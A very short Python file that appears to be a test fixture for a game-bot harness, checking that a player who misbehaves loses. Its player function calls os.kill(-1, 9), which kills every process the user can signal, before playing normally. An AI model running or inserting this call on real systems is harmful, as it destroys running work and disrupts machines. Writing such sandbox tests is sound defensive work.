"""Kills whatever it can."""
# loses: player
# note: send a signal

import os

honest = player


def player(board):
    os.kill(-1, 9)
    return honest(board)
